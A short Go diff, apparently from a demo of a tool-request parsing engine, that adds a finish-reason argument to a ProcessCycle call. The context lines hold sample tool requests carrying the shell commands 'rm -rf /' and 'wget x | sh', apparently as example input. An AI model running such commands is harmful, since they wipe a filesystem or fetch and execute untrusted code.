@@ -60,7 +60,7 @@ line:「始」rm -rf /「末」
 tool_name:「始」shell_run「末」,
 line:「始」wget x | sh「末」
 <<<[END_TOOL_REQUEST]>>>`
-	cycle, err := e.NewSession("demo").ProcessCycle(context.Background(), reply)
+	cycle, err := e.NewSession("demo").ProcessCycle(context.Background(), reply, protocol.FinishStop)
 	if err != nil {
 		log.Fatal(err)
 	}
